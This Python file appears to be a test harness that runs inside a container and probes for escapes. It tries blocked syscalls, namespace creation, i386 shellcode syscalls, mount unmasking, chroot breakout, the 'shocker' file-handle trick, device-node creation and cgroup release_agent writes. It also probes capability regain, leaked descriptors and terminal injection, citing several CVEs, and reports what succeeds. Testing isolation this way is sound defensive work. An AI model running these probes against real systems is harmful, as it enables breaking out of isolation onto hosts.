"""What somebody inside a container tries in order to get out of it, or to more than he was given.

Its text is run inside, by the container's own Python: ``python3 -c TEXT NUMBERS [NAMES]``. Each attack answers with what it has
gained, nothing where it was held off, and says so too where it was held off by another reason than the one that is meant to.
"""

from __future__ import annotations

import ctypes
import errno
import fcntl
import json
import mmap
import os
import resource
import signal
import socket
import stat
import sys
from collections.abc import Callable, Iterable

NUMBERS: dict[str, int] = json.loads(sys.argv[1]) if __name__ == "__main__" else {}
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
REFUSED = frozenset({"EPERM", "ENOSYS"})
NAMESPACES = {"user": 0x10000000, "mount": 0x20000, "pid": 0x20000000, "net": 0x40000000, "cgroup": 0x02000000}
MS_REMOUNT, MS_BIND, MS_REC = 32, 4096, 16384
AT_FDCWD, TIOCSTI = -100, 0x5412
CAPABILITIES = 0x00000000A80425FB  # Docker's fourteen

# Calls that are refused whatever they are given; each gets arguments that fail in another way where it is let through.
CALLS = (
    "acct add_key bpf clock_settime delete_module fanotify_init finit_module fsconfig fsmount fsopen fspick init_module "
    "io_uring_enter io_uring_register io_uring_setup kcmp kexec_file_load kexec_load keyctl lookup_dcookie mbind migrate_pages "
    "mount mount_setattr move_mount move_pages open_by_handle_at open_tree perf_event_open pidfd_getfd pivot_root quotactl "
    "quotactl_fd reboot request_key set_mempolicy setdomainname sethostname setns settimeofday swapoff swapon syslog umount2 "
    "unshare userfaultfd vhangup"
)


def call(name: str, *arguments: int | bytes | None) -> str:
    """The name of the error that a system call ends with, empty where it has none."""
    ctypes.set_errno(0)
    given = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    result = LIBC.syscall(ctypes.c_long(NUMBERS[name]), *given)
    return errno.errorcode[ctypes.get_errno()] if result == -1 else ""


def clone(flags: int) -> str:
    """The name of the error that making a process so ends with."""
    ctypes.set_errno(0)
    result = LIBC.syscall(*map(ctypes.c_long, (NUMBERS["clone"], flags | signal.SIGCHLD, 0, 0, 0, 0)))
    if result == 0:
        os._exit(0)  # this is the new process
    return errno.errorcode[ctypes.get_errno()] if result < 0 else ""


def gained(attempts: Iterable[tuple[str, str]], allowed: frozenset[str] = REFUSED) -> str:
    """Of (what was tried, its error) those that were not refused."""
    return ", ".join(f"{what}: {error or 'done'}" for what, error in attempts if error not in allowed)


def in_a_child(action: Callable[[], object]) -> int:
    """The wait status of a process that does something; its exit code is 0 where nothing was raised."""
    pid = os.fork()
    if pid == 0:
        code = 1
        try:
            action()
            code = 0
        finally:
            os._exit(code)
    return os.waitpid(pid, 0)[1]


def refused_calls() -> str:
    """Calls into parts of the kernel that containers have no business with."""
    return gained((name, call(name, -1, -1, -1, -1, -1, -1)) for name in CALLS.split() if name in NUMBERS)


def namespaces_of_ones_own() -> str:
    """Whoever makes a user namespace holds every capability in it, and reaches far more of the kernel."""

    def ways() -> Iterable[tuple[str, str]]:
        for kind, flag in NAMESPACES.items():
            yield f"clone {kind}", clone(flag)
            yield f"unshare {kind}", call("unshare", flag)
        yield "clone3", call("clone3", 0, 0)

    return gained(ways())


def calls_of_another_machine() -> str:
    """The numbers of i386 and x32 go round every rule about those of x86-64."""
    if os.uname().machine != "x86_64":
        return ""
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(bytes.fromhex("b814000000cd80c3"))  # mov eax, 20 (getpid of i386); int 0x80; ret
    i386 = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    ends = {
        "i386": in_a_child(i386),
        "x32": in_a_child(lambda: LIBC.syscall(ctypes.c_long(0x40000000 | 39))),
    }
    return ", ".join(name for name, status in ends.items() if os.WTERMSIG(status) != signal.SIGSYS)


def sockets_of_the_kernel() -> str:
    """AF_ALG (the kernel's ciphers) and AF_VSOCK (the hypervisor)."""
    for family in (38, 40):
        try:
            socket.socket(family, socket.SOCK_SEQPACKET if family == 38 else socket.SOCK_STREAM).close()
        except OSError as error:
            if error.errno == errno.EPERM:
                continue
        return f"a socket of family {family}"
    return ""


def mounts() -> str:
    """Getting rid of masks: by mounting /proc anew, by a bind beside them, by taking them off, by making them writable."""
    os.makedirs("/tmp/at", exist_ok=True)
    return gained(
        (
            ("mount proc", call("mount", b"proc", b"/tmp/at", b"proc", 0, None)),
            ("mount tmpfs", call("mount", b"tmpfs", b"/tmp/at", b"tmpfs", 0, None)),
            ("bind /proc", call("mount", b"/proc", b"/tmp/at", None, MS_BIND, None)),
            ("remount /proc/sys", call("mount", None, b"/proc/sys", None, MS_BIND | MS_REMOUNT, None)),
            ("remount /", call("mount", None, b"/", None, MS_BIND | MS_REMOUNT, None)),
            ("unmount /proc/keys", call("umount2", b"/proc/keys", 2)),
            ("unmount /proc/sys", call("umount2", b"/proc/sys", 2)),
            ("open_tree /proc", call("open_tree", AT_FDCWD, b"/proc", 1)),
            ("fsopen proc", call("fsopen", b"proc", 0)),
        )
    )


def a_root_beyond_the_root() -> str:
    """``..`` of the root, and a root changed while the working directory lies outside of the new one."""
    found = os.stat("/")
    if not os.path.samestat(found, os.stat("/../../..")):
        return "/.. is another folder"
    os.makedirs("/tmp/jail", exist_ok=True)
    seen = os.pipe()

    def dig() -> None:
        os.chdir("/")
        os.chroot("/tmp/jail")
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        os.write(seen[1], json.dumps([os.stat("/").st_dev, os.stat("/").st_ino]).encode())

    in_a_child(dig)
    os.close(seen[1])
    with open(seen[0], "rb") as file:
        said = file.read()
    return "" if not said or json.loads(said) == [found.st_dev, found.st_ino] else "chroot led out"


def a_file_by_its_handle() -> str:
    """Files of a whole disk can be opened by their number (the "shocker")."""
    handle = (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(4, "little") + bytes(4)
    ends = []
    for path in ("/", "/etc/hosts", "/etc/resolv.conf"):  # the last two may lie on a disk of the host
        try:
            mount = os.open(path, os.O_RDONLY)
        except OSError:
            continue
        ends.append((path, call("open_by_handle_at", mount, handle, os.O_RDONLY)))
        os.close(mount)
    return gained(ends)


def disks_and_memory() -> str:
    """Device nodes of the host that are there already, or that are made: its disks and its memory."""
    found = set(os.listdir("/dev"))
    more = found - set("null zero full random urandom tty ptmx fd stdin stdout stderr pts shm mqueue console".split())
    got = [f"/dev/{name}" for name in sorted(more)]
    for name, kind, major, minor in (
        ("mem", stat.S_IFCHR, 1, 1),
        ("kmsg", stat.S_IFCHR, 1, 11),
        ("disk", stat.S_IFBLK, 254, 0),
        ("disk2", stat.S_IFBLK, 8, 0),
        ("fuse", stat.S_IFCHR, 10, 229),
        ("loop", stat.S_IFCHR, 10, 237),
        ("kvm", stat.S_IFCHR, 10, 232),
    ):
        for folder in ("/tmp", "/dev/shm"):
            path = f"{folder}/node-{name}"
            try:
                os.mknod(path, kind | 0o666, os.makedev(major, minor))
                node = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            except OSError as error:
                if error.errno not in (errno.EPERM, errno.EACCES):
                    got.append(f"{path}: {error}")
                continue
            # Where identities are answered for, the node is an empty file that says it is one.
            try:
                if os.read(node, 16) or os.lseek(node, 0, os.SEEK_END):
                    got.append(path)
            except OSError as error:
                got.append(f"{path} was opened ({error})")
            os.close(node)
    return ", ".join(got)


def files_of_the_kernel() -> str:
    """No file of /proc or /sys but the process's own takes a single byte."""
    got = []
    for top in ("/proc", "/sys"):
        for folder, names, files in os.walk(top):
            if folder == "/proc":
                names[:] = [name for name in names if not name.isdigit() and name not in ("self", "thread-self")]
            for name in files:
                path = f"{folder}/{name}"
                try:
                    file = os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY)
                except OSError:
                    continue
                try:
                    found = os.fstat(file)
                    if not stat.S_ISCHR(found.st_mode) or found.st_rdev != os.makedev(1, 3):  # else it is masked
                        os.write(file, b"\0")
                        got.append(path)
                except OSError:
                    pass
                os.close(file)
    return ", ".join(got)


def secrets_of_the_kernel() -> str:
    """What is masked reads as nothing."""
    got = []
    for path in (
        "/proc/acpi /proc/asound /proc/interrupts /proc/kcore /proc/keys /proc/latency_stats /proc/sched_debug /proc/scsi "
        "/proc/timer_list /proc/timer_stats /sys/firmware /sys/devices/virtual/powercap "
        "/sys/devices/system/cpu/cpu0/thermal_throttle"
    ).split():
        try:
            if os.path.isdir(path):
                got += [f"{path}/{name}" for name in os.listdir(path)]
            elif os.path.exists(path):
                with open(path, "rb") as file:
                    if file.read(1):
                        got.append(path)
        except PermissionError:
            continue
    return ", ".join(got)


def cgroups() -> str:
    """The program that the kernel runs for an empty cgroup (CVE-2022-0492), and a way out of ones own groups."""
    got = []
    for folder, names, files in os.walk("/sys/fs/cgroup"):
        for name in files:
            if name in (
                "release_agent",
                "notify_on_release",
                "cgroup.procs",
                "tasks",
                "memory.max",
                "memory.limit_in_bytes",
            ):
                try:
                    os.close(os.open(f"{folder}/{name}", os.O_WRONLY))
                    got.append(f"{folder}/{name}")
                except OSError as error:
                    if error.errno not in (errno.EROFS, errno.EACCES):
                        got.append(f"{folder}/{name}: {error}")
        try:
            os.mkdir(f"{folder}/mine")
            got.append(f"{folder}/mine")
        except OSError:
            pass
        names[:] = [name for name in names if name != "mine"]
    os.makedirs("/tmp/at", exist_ok=True)
    for kind, words in ((b"cgroup", b"rdma"), (b"cgroup", b"none,name=mine"), (b"cgroup2", None)):
        error = call("mount", kind, b"/tmp/at", kind, 0, words)
        if error not in REFUSED:
            got.append(f"mount {kind.decode()}: {error or 'done'}")
    return ", ".join(got)


def capabilities() -> str:
    """None inheritable or ambient (CVE-2022-24769), none beyond Docker's, and none can be had back."""
    with open("/proc/self/status") as file:
        rows = dict(line.rstrip("\n").split(":\t") for line in file if line.startswith("Cap"))
    held = {name: int(value, 16) for name, value in rows.items()}
    got = [name for name in ("CapInh", "CapAmb") if held[name]]
    got += [name for name in ("CapPrm", "CapEff", "CapBnd") if held[name] & ~CAPABILITIES]
    everything = (ctypes.c_uint32 * 6)(0xFFFFFFFF, 0xFFFFFFFF, 0, 0x1FF, 0x1FF, 0)
    header = (ctypes.c_uint32 * 2)(0x20080522, 0)
    if LIBC.capset(ctypes.byref(header), ctypes.byref(everything)) == 0:
        got.append("capset")
    return ", ".join(got)


def descriptors() -> str:
    """Nothing that the engine, its zygote or the shim have open (CVE-2024-21626)."""
    got = []
    for number in os.listdir("/proc/1/fd"):
        try:
            leads = os.readlink(f"/proc/1/fd/{number}")
        except (FileNotFoundError, PermissionError):  # the one by which the folder was read; or none may be looked at
            continue
        if int(number) > 2:
            got.append(f"{number} -> {leads}")
    for number in range(3):
        if stat.S_ISDIR(os.fstat(number).st_mode):
            got.append(f"a folder at {number}")
    return ", ".join(got)


def other_processes() -> str:
    """Only processes of the container are seen, and a signal to all reaches no other."""
    numbers = sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
    strangers = [number for number in numbers if number not in (1, os.getpid())]
    return f"processes {strangers}" if strangers else ""


def keys_of_the_host() -> str:
    """Keyrings are in no namespace: those of whoever started the container could be read."""
    ways = (
        ("add_key", b"user", b"n", b"x", 1, -3),
        ("keyctl", 0, -3, 0),
        ("keyctl", 0, -5, 0),
        ("request_key", b"user", b"n"),
    )
    return gained((f"{name} {words}", call(name, *words)) for name, *words in ways)


def sockets_without_a_path() -> str:
    """Abstract sockets of the host (CVE-2020-15257: those of a shim) are those of another network."""
    with open("/proc/net/unix") as file:
        names = [line.split()[7] for line in file.readlines()[1:] if len(line.split()) > 7]
    got = [name for name in names if name.startswith("@")]
    with socket.socket(socket.AF_UNIX) as ours:
        try:
            ours.connect("\0" + os.environ["HOST_SOCKET"])
            got.append("connected")
        except OSError:
            pass
    return ", ".join(got)


def more_than_the_limits() -> str:
    """A hard limit that is raised, a kernel that kills others first, a clock that is set."""
    got = []
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard != resource.RLIM_INFINITY:
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard + 1))
            got.append("RLIMIT_NOFILE")
        except (OSError, ValueError):
            pass
    try:
        with open("/proc/self/oom_score_adj") as file:
            before = int(file.read())
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write(str(before - 1))
        got.append("oom_score_adj")
    except OSError:
        pass
    return ", ".join(got)


def the_persons_terminal() -> str:
    """Words pushed into a terminal that a person goes on using are typed by him."""
    got = []
    for number in range(3):
        if os.isatty(number):
            got.append(f"terminal at {number}")
        try:
            fcntl.ioctl(number, TIOCSTI, b"#")
            got.append(f"TIOCSTI at {number}")
        except OSError:
            pass
    try:
        os.close(os.open("/dev/tty", os.O_RDWR))
        got.append("/dev/tty")
    except OSError:
        pass
    return ", ".join(got)


def files_that_are_not_the_containers() -> str:
    """The mount table names no folder of the host, and nothing but what containers are given is mounted."""
    got = []
    with open("/proc/self/mountinfo") as file:
        for line in file:
            fields = line.split()
            kind, point = fields[fields.index("-") + 1], fields[4]
            # A root that is a copy is a folder of the host's. In a user namespace no device can be made: the host's are bound.
            given = point in ("/", "/etc/hosts", "/etc/hostname", "/etc/resolv.conf")
            device = kind in ("devtmpfs", "tmpfs") and point.startswith(("/dev/", "/proc/"))
            own = kind in ("overlay", "proc", "tmpfs", "devpts", "sysfs", "cgroup", "cgroup2", "mqueue")
            if not (own or given or device):
                got.append(f"{point} ({kind})")
    return ", ".join(got)


ATTACKS: dict[str, Callable[[], str]] = {
    function.__name__: function
    for function in (
        refused_calls,
        calls_of_another_machine,
        sockets_of_the_kernel,
        mounts,
        a_root_beyond_the_root,
        a_file_by_its_handle,
        disks_and_memory,
        files_of_the_kernel,
        secrets_of_the_kernel,
        cgroups,
        capabilities,
        descriptors,
        other_processes,
        keys_of_the_host,
        sockets_without_a_path,
        more_than_the_limits,
        the_persons_terminal,
        files_that_are_not_the_containers,
        namespaces_of_ones_own,  # at the end: who gets one is somewhere else
    )
}


def attempt(attack: Callable[[], str]) -> str:
    """What it gains: nothing where it wants a /proc, and there is none."""
    try:
        return attack()
    except FileNotFoundError:
        if os.path.exists("/proc/self"):
            raise
        return ""


if __name__ == "__main__":
    names = sys.argv[2:] or list(ATTACKS)
    print(json.dumps({name: attempt(ATTACKS[name]) for name in names}))
